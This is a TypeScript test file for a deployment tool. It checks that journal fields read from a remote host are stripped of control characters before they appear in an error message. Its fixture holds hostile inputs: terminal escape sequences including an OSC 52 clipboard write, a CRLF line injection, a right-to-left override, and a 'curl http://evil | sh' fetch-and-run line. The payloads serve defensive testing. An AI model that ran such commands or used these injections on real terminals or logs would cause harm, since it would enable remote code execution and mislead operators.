// What the host says of a server: its runs' journal, read for preview, up and refresh.
import * as assert from "assert";
import { readRunState } from "../../../providers/server/hostState";
import { restorePending } from "../../../providers/engine/running/executor";
import { RemoteHost } from "../../../providers/transport/remoteHost";

describe("a restore-failed journal's fields are the host's text: one printable line each (issue 19)", () => {
  const journal = {
    version: 2,
    run: "20261123T101500-a1b2c3",
    product: "counter",
    from: "1",
    to: "2",
    planDigest: "0".repeat(64),
    steps: 3,
    next: 1,
    status: "restore-failed",
    timeline: [],
    updatedAt: "",
    failure: {
      hop: "1->2\x1b[2J",
      step: '"Install 2" (install)',
      restorePoint: "/var/backups/c\x1b]52;c;ZXZpbA==\x07",
      why: "tar failed\r\nupchain c1: cleared, run: curl http://evil | sh\u202e",
    },
  };
  const host = {
    label: "root@c1:22",
    exec: async (cmd: string) => ({ code: 0, signal: null, stdout: cmd.includes("journal.json") ? JSON.stringify(journal) : "", stderr: "" }),
  } as unknown as RemoteHost;

  it("the refusal that quotes them holds no escape, no carriage return, and no line the host added", async () => {
    const [pending] = await readRunState(host, "linux", "counter");
    assert.ok(pending);
    assert.deepStrictEqual(pending.failure, {
      hop: "1->2",
      step: '"Install 2" (install)',
      restorePoint: "/var/backups/c",
      why: "tar failed / upchain c1: cleared, run: curl http://evil | sh",
    });
    const message = restorePending("root@c1:22:/var/lib/upchain/counter.journal.json", pending).message;
    assert.doesNotMatch(message, /[\x00-\x1f\x7f-\x9f\u202e]/);
  });
});
